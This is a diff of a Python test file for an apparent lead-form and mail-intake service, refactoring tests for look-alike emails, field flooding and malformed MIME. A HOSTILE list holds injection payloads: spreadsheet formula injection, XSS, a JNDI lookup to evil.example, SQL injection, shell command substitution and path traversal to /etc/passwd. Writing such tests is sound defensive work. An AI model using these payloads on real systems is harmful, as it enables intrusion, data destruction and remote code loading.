@@ -131,7 +131,8 @@ def test_an_address_is_read_by_the_rules_or_kept_as_text(house, address, key):
 
 def test_look_alike_and_tagged_addresses_are_people_of_their_own(house):
     plain = sent(house, email="olga@gmail.example")
-    for other, flag in [("olga@gmаil.example", "confusable_email"), ("olga+x@gmail.example", None), ("o.lga@gmail.example", None)]:
+    tagged, dotted = "olga+x@gmail.example", "o.lga@gmail.example"
+    for other, flag in [("olga@gmаil.example", "confusable_email"), (tagged, None), (dotted, None)]:
         one = sent(house, email=other)
         assert one["contact"]["id"] != plain["contact"]["id"], other
         assert not flag or flag in one["flags"]
@@ -209,7 +210,8 @@ def test_a_form_of_forty_thousand_parts_is_too_much(house):
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example","x")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0", "-1+1",
-    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "javascript:alert(1)", "${jndi:ldap://evil.example/a}",
+    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "javascript:alert(1)",
+    "${jndi:ldap://evil.example/a}",
     "{{7*7}}{% for x in y %}", "%s%n%x", "'; DROP TABLE leads; --", "\" OR \"\"=\"", "$(touch /tmp/pwned)`id`",
     "a+)+$ (a+)+$", "../../../etc/passwd", "\\u0000\\x00", "|| sleep 9",
 ]
@@ -248,7 +250,8 @@ def series(house):
 def test_two_thousand_campaigns_make_not_one_more_series(house):
     def bomb(number):
         word = f"boom{number}"
-        return form(house, {"phone": f"+7999{number:07}", "utm_source": word, "utm_campaign": word, word: word}).status_code
+        fields = {"phone": f"+7999{number:07}", "utm_source": word, "utm_campaign": word, word: word}
+        return form(house, fields).status_code
 
     with ThreadPoolExecutor(8) as crowd:
         assert set(crowd.map(bomb, range(50))) == {200}
@@ -346,6 +349,7 @@ def test_a_forged_mail_of_ours_is_kept_for_people(house):
     assert grown(before, books(house, "demo-mail")) == {"quarantined": 1}
 
 
+MIXED = "Content-Type: multipart/mixed; boundary="
 BROKEN = {
     "base64 without end": "Content-Transfer-Encoding: base64\r\n\r\n" + "aGVsbG8g" * 10 + "d",
     "a charset of nobody": "Content-Type: text/plain; charset=x-nobody\r\n\r\nhello",
@@ -353,8 +357,8 @@ BROKEN = {
     "bare line feeds": "\n\nhello\n.\nhello",
     "a boundary that never comes": "Content-Type: multipart/mixed; boundary=x\r\n\r\nhello",
     "a NUL": "\r\nhel\0lo",
-    "a hundred levels": "".join(f"Content-Type: multipart/mixed; boundary=b{n}\r\n\r\n--b{n}\r\n" for n in range(100)) + "\r\nhello",
-    "ten thousand parts": "Content-Type: multipart/mixed; boundary=b\r\n\r\n" + "--b\r\n\r\nhello\r\n" * 10_000 + "--b--\r\n",
+    "a hundred levels": "".join(f"{MIXED}b{n}\r\n\r\n--b{n}\r\n" for n in range(100)) + "\r\nhello",
+    "ten thousand parts": f"{MIXED}b\r\n\r\n" + "--b\r\n\r\nhello\r\n" * 10_000 + "--b--\r\n",
 }
 
 
